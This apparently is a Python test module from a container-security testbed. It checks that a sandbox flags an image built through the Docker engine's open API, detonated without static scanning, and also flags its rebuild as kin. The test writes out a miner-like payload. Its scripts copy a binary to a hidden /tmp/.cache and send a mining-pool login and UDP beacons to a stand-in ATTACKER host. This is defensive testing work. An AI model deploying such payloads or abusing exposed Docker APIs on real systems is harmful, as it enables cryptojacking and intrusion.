"""The second act: an image that is built on the host, in which nothing can be found, gives itself away when it runs.

Static scanning is switched off by the policy; what is left is behaviour, and kinship with what behaved badly.
"""

import secrets
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Final

import requests
from docker.errors import APIError
from msgspec import Struct, structs

from pratique.model import Behaviour
from pratique.policy import Access, Admission, Builds, Detonated, Require, parse, render
from pratique.store import Store
from testbed import images
from testbed.cell import entered
from testbed.protection import Protection
from testbed.servers import FENCE_PORT, POOL_PORT, UDP_PORT
from testbed.shop import policy
from testbed.stage import Stage
from testbed.world import ATTACKER, OUTSIDE

_BASE: Final = "alpine-like/base:1"
_ALL_PROTOCOLS: Final = 3
_FRAME_BYTES: Final = 65535
_SO_RCVBUFFORCE: Final = 33


class Proof(Struct, frozen=True):
    """One thing that had to be shown, and what was seen."""

    title: str
    seen: str
    right: bool


class Witness:
    """Hears every frame on every interface of the engine's namespace, its bridges among them."""

    def __init__(self, stage: Stage) -> None:
        self._network = stage.engine.network
        self.word = f"voyage-{secrets.token_hex(6)}"
        """What the image sends wherever it can."""
        with entered(self._network.net):
            self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL_PROTOCOLS))
        self._socket.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, 64 << 20)
        self._socket.setblocking(False)

    def heard(self) -> int:
        """Return how many frames with the word there were since the last time; proves that it can hear."""
        self._network.run("bash", "-c", f"printf fence-{self.word} >/dev/udp/{OUTSIDE}/{FENCE_PORT}")
        count, deadline = 0, time.monotonic() + 20
        while time.monotonic() < deadline:
            try:
                frame = self._socket.recv(_FRAME_BYTES)
            except BlockingIOError:
                time.sleep(0.001)
                continue
            if f"fence-{self.word}".encode() in frame:
                return count
            count += self.word.encode() in frame
        msg = "the witness hears nothing any more"
        raise RuntimeError(msg)

    def close(self) -> None:
        """Stop to listen."""
        self._socket.close()


def play(stage: Stage, protection: Protection, say: Callable[[str], None]) -> list[Proof]:
    """Play the act under a running agent, whose policy it changes; return what was shown."""
    with _behaviour_alone(protection), _witness(stage) as witness:
        mark, started = stage.world.mark(), time.time()
        built = _build(stage, witness.word, "")
        refused = _try_to_run(stage, built)
        say(f"  the image built on the host, {built.removeprefix('sha256:')[:12]}: {refused}")
        verdict, rules = _verdict(protection, built)
        again = _build(stage, witness.word, "# another version\n")
        kin = _try_to_run(stage, again)
        say(f"  its re-build, {again.removeprefix('sha256:')[:12]}: {kin}")
        heard, received = witness.heard(), stage.world.received(mark).total()
        told = {alert["rule"] for alert in protection.alerts(started)}
    return [
        Proof(
            "built on the host, static scanning off: condemned by behaviour",
            f"{verdict}: {', '.join(rules)}",
            verdict == Behaviour.BAD and "detonation is bad" in refused,
        ),
        Proof(
            "nothing leaves the sandbox",
            f"{heard} frames on the engine's bridges, {received} bytes at the attacker",
            heard == 0 and received == 0,
        ),
        Proof("its re-build under a new id: condemned as kin", kin, again != built and "kin" in kin),
        Proof("told", ", ".join(sorted(told)), "image.kin" in told),
    ]


@contextmanager
def _behaviour_alone(protection: Protection) -> Iterator[None]:
    before = protection.policy_path.read_text()
    gated = structs.replace(
        parse(policy(Builds.GATE).encode()),
        admission=Admission(
            fail_on=(),
            incomplete=Access.ALLOW,
            require=Require(detonated=Detonated.CLEAN),
            detonate_for_s=8.0,
            detonation_deadline_s=60.0,
        ),
    )
    _put_in_force(protection, render(gated))
    try:
        yield
    finally:
        _put_in_force(protection, before)


def _put_in_force(protection: Protection, text: str) -> None:
    said = protection.log.stat().st_size
    protection.set_policy(text)
    protection.wait_for("policy in force", after=said)


@contextmanager
def _witness(stage: Stage) -> Iterator[Witness]:
    witness = Witness(stage)
    try:
        yield witness
    finally:
        witness.close()


def _build(stage: Stage, word: str, comment: str) -> str:
    """Build the image over the engine's open port, as the attacker would, and return its id.

    No file of it is known to anybody, no two builds have an id in common, and ``comment`` changes one of its files.
    """
    login = f'{{"id":1,"method":"login","params":{{"login":"{word}","pass":"x","agent":"x"}}}}'
    files = {
        "run.sh": "#!/bin/sh\n. /opt/pool.conf\nwhile :; do sh /opt/work.sh; sh /opt/tell.sh; sleep 1; done\n",
        "pool.conf": f"POOL={ATTACKER}\nPORT={POOL_PORT}\nLOGIN='{login}'\nWORD={word}\nexport POOL PORT LOGIN WORD\n",
        "work.sh": 'cp /usr/bin/probe /tmp/.cache && /tmp/.cache tcp $POOL $PORT "$LOGIN"\n',
        "tell.sh": f"{comment}/tmp/.cache udp $POOL {UDP_PORT} $WORD\n",
    }
    copied = " ".join(files)
    dockerfile = f'FROM {_BASE}\nCOPY {copied} /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
    dockerfile = (
        f'FROM {_BASE}\nCOPY {" ".join(files)} /opt/\nLABEL built={secrets.token_hex(4)}\nCMD ["sh", "/opt/run.sh"]\n'
    )
    context = {"Dockerfile": dockerfile.encode(), **{name: text.encode() for name, text in files.items()}}
    client = stage.attack.client
    answer = client.api.post(
        f"{client.api.base_url}/v1.41/build",
        params={"t": "evil/built:1", "nocache": "1"},
        data=images.archive(context),
        headers={"Content-Type": "application/x-tar"},
    )
    answer.raise_for_status()
    return str(client.images.get("evil/built:1").id)


def _verdict(protection: Protection, image: str) -> tuple[str, list[str]]:
    """Return what the sandbox found out about an image, and by which rules."""
    with Store.open(protection.policy_path.with_name("pratique.db"), read_only=True) as store:
        detonation = store.detonations.get(image)
    return (
        (detonation.verdict, sorted({finding.rule for finding in detonation.findings})) if detonation else ("none", [])
    )


def _try_to_run(stage: Stage, image: str) -> str:
    try:
        container = stage.attack.client.containers.run(image, detach=True)
    except (APIError, requests.RequestException) as error:
        return " ".join(str(getattr(error, "explanation", None) or error).split())
    return f"started {container.short_id}"
